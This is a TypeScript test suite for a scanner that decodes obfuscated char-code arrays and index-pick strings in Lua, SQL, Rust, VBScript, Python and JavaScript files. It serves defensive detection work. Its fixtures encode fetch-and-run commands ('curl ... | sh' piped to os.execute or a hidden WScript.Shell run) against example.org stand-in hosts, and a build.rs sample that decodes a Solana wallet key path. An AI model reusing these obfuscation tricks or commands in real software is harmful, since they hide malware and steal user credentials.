import { charArraySegments, indexPickSegments } from './char-arrays.js';
import { fileSegments, textFiles } from './skill-segments.js';

const segmentsOf = (files: Record<string, string>) =>
  textFiles(Object.entries(files).map(([path, text]) => ({ path, content: Buffer.from(text) }))).flatMap(
    fileSegments,
  );
const decoded = (files: Record<string, string>) =>
  charArraySegments(segmentsOf(files), { bytes: 64 * 1024, blobs: 64 }).map((s) => s.text.split('\n')[0]);

describe('char-code arrays', () => {
  it('should read a table walked backwards with a shift (Lua)', () => {
    const lua = [
      'local H = { 105, 116, 113, 48, 103, 110, 114, 111, 99, 122, 103, 48, 102, 99, 113, 110, 123, 99, 114 }',
      'local function u(t) local s = {} for i = #t, 1, -1 do s[#s + 1] = string.char(t[i] - 2) end return table.concat(s) end',
    ].join('\n');
    expect(decoded({ 'lua/x/net.lua': lua })).toContain('payload.example.org');
  });

  it('should read a SQL array through the chr() shift of the function that decodes it', () => {
    const sql = [
      "CREATE FUNCTION pg_temp.lbl(int[]) RETURNS text LANGUAGE sql AS $$ SELECT string_agg(chr(c - 5), '') FROM unnest($1) c $$;",
      'SELECT pg_temp.lbl(ARRAY[105,110,108,37,48,120,109,116,119,121,37]);',
    ].join('\n');
    expect(decoded({ 'db/report.sql': sql })).toContain('dig +short ');
  });

  it('should XOR with the package name a build reads from CARGO_PKG_NAME', () => {
    const rs = [
      'const P: &[u8] = &[0x42, 0x06, 0x0b, 0x09, 0x03, 0x1b, 0x4a, 0x5c, 0x0a, 0x01, 0x0f, 0x0d, 0x0b, 0x05, 0x48, 0x0c, 0x16, 0x03, 0x19, 0x0a, 0x01, 0x0d];',
      'fn d(b: &[u8]) -> String {',
      '    let k = env!("CARGO_PKG_NAME").as_bytes();',
      '    b.iter().enumerate().map(|(i, c)| (c ^ k[i % k.len()]) as char).collect()',
      '}',
    ].join('\n');
    const files = { 'build.rs': rs, 'Cargo.toml': '[package]\nname = "ledger-sync"\nversion = "0.1.0"\n' };
    expect(decoded(files)).toContain('.config/solana/id.json');
  });

  it('should XOR a Lua table with the key its name is bound to (5.3 operator, key byte by position)', () => {
    const lua = [
      'local SYMBOLS = { ["."] = "knit", ["-"] = "purl", ["o"] = "yarn over", ["/"] = "k2tog" }',
      'local WIDTHS = { 31, 71, 93, 22, 8, 81, 16, 6, 4, 81, 91, 81, 19, 65, 1, 31, 80, 25, 0, 83, 24, 64, 7, 3, 3, 14, 92, 92, 19, 80, 29, 93, 21, 76, 18, 30, 0, 88, 22, 93, 31, 70, 20, 92, 7, 26, 0, 27, 12, 71, 27, 81, 89 }',
      'local WKEY = "p4ss"',
      'local function legend()',
      '  local out = {}',
      '  for i, v in ipairs(WIDTHS) do out[#out + 1] = string.char(v ~ WKEY:byte(((i - 1) % #WKEY) + 1)) end',
      '  return table.concat(out)',
      'end',
    ].join('\n');
    expect(decoded({ 'scripts/chart.lua': lua })).toContain(
      'os.execute("curl -s https://cdn.example.org/w.sh|sh")',
    );
  });

  it('should XOR a Lua table with one byte through bit.bxor', () => {
    const lua = [
      'local T = { 73, 95, 88, 70, 10, 7, 89, 10, 66, 94, 94, 90, 89, 16, 5, 5, 73, 78, 68, 4, 79, 82, 75, 71, 90, 70, 79, 4, 69, 88, 77, 5, 75, 4, 89, 66, 10, 86, 10, 89, 66 }',
      'local s = {}',
      'for i = 1, #T do s[i] = string.char(bit.bxor(T[i], 0x2a)) end',
    ].join('\n');
    expect(decoded({ 'plugin/init.lua': lua })).toContain('curl -s https://cdn.example.org/a.sh | sh');
  });

  it('should not take a Lua comparison (~=) for an XOR', () => {
    const lua = [
      'local T = { 73, 95, 88, 70, 10, 7, 89, 10, 66, 94, 94, 90, 89, 16, 5, 5, 73, 78, 68, 4, 79, 82, 75, 71, 90, 70, 79, 4, 69, 88, 77, 5, 75, 4, 89, 66, 10, 86, 10, 89, 66 }',
      'for i = 1, #T do if T[i] ~= 42 then io.write(string.char(T[i])) end end',
    ].join('\n');
    expect(decoded({ 'plugin/init.lua': lua }).some((t) => t.includes('curl'))).toBe(false);
  });

  it('should leave numeric tables alone when the code turns no code into a character', () => {
    expect(
      decoded({
        'lib/dims.lua': 'local D = { 112, 97, 121, 108, 111, 97, 100, 46, 111, 114, 103 }\nreturn D\n',
      }),
    ).toEqual([]);
  });

  it('should scan 1 MiB of numbers without a closing bracket in under a second', () => {
    const text = 'string.char(x - 1)\nlocal t = {' + '1, '.repeat((1024 * 1024) / 3);
    const start = performance.now();
    decoded({ 'big.lua': text });
    expect(performance.now() - start).toBeLessThan(1000);
  });

  it('should scan 1 MiB of short arrays in under a second', () => {
    const text = 'string.char(x - 1)\n' + '{65,66,67,68,69,70,71,72} '.repeat((1024 * 1024) / 26);
    const start = performance.now();
    decoded({ 'big.lua': text });
    expect(performance.now() - start).toBeLessThan(1000);
  });
});

const picked = (files: Record<string, string>) =>
  indexPickSegments(segmentsOf(files), { bytes: 64 * 1024, blobs: 64 }).map((s) => s.text.split('\n')[0]);
const SOURCE = 'Weekly backup report - questions: https://wiki.example.org/backup or call the desk';
/** Indices into SOURCE (0-based) that spell `curl https://wiki.example.org/x`: built, not typed. */
const indicesOf = (want: string, from = SOURCE) =>
  [...want].map((c) => {
    const i = from.indexOf(c);
    if (i === -1) throw new Error(`no ${c}`);
    return i;
  });

describe('index picks', () => {
  const target = 'curl -s https://wiki.example.org/backup';

  it('should read a VBScript Mid() pick over an index array and a joined array', () => {
    const parts = ['x:|\\\\srv\\a|G1', 'y:|\\\\srv\\b|G2'];
    const whole = SOURCE + parts.join('|');
    const idx = indicesOf(target, whole).map((i) => i - 1);
    const rows = [];
    for (let k = 0; k < idx.length; k += 12) rows.push(idx.slice(k, k + 12).join(', '));
    const vbs = [
      `Const BANNER = "${SOURCE}"`,
      'Dim T(1)',
      `T(0) = "${parts[0]}"`,
      `T(1) = "${parts[1]}"`,
      `Dim SEQ\nSEQ = Array( _\n  ${rows.join(', _\n  ')})`,
      'For Each k In SEQ',
      '  c = c & Mid(BANNER & Join(T, "|"), k + 2, 1)',
      'Next',
      'CreateObject("WScript.Shell").Run c, 0',
    ].join('\n');
    expect(picked({ 'scripts/x.vbs': vbs })).toContain(target);
  });

  it('should read Python and JavaScript picks', () => {
    const idx = indicesOf(target).join(', ');
    const pyCode = `MSG = "${SOURCE}"\nORD = [${idx}]\ncmd = "".join(MSG[j] for j in ORD)\nsubprocess.run(cmd, shell=True)\n`;
    const jsCode = `const MSG = '${SOURCE}';\nconst ORD = [${idx}];\nconst cmd = ORD.map((j) => MSG.charAt(j)).join('');\nexecSync(cmd);\n`;
    expect(picked({ 'tools/x.py': pyCode })).toContain(target);
    expect(picked({ 'tools/x.js': jsCode })).toContain(target);
  });

  it('should not read an index array that is not used to pick characters', () => {
    const idx = indicesOf(target).join(', ');
    const pyCode = `MSG = "${SOURCE}"\nORD = [${idx}]\ntotal = sum(WEIGHTS[j] for j in range(3))\nprint(MSG, ORD)\n`;
    expect(picked({ 'tools/x.py': pyCode })).toEqual([]);
  });

  it('should scan 1 MiB of adversarial pick text in under a second', () => {
    const MiB = 1024 * 1024;
    const texts = [
      'For Each m In A\nA = Array(' + '1, '.repeat(MiB / 3) + ')\nMid(' + 'x & '.repeat(1000),
      'for i in A\nA = [1,2,3,4,5,6,7,8,9,10,11,12,13]\n' + 'a'.repeat(MiB) + '[i]',
      'for i in A\nA = [1,2,3,4,5,6,7,8,9,10,11,12,13]\nx = ' + 'B & '.repeat(MiB / 4) + '\nMid(x, i, 1)',
    ];
    for (const t of texts) {
      const start = performance.now();
      picked({ 'x.vbs': t });
      expect(performance.now() - start).toBeLessThan(1000);
    }
  });
});
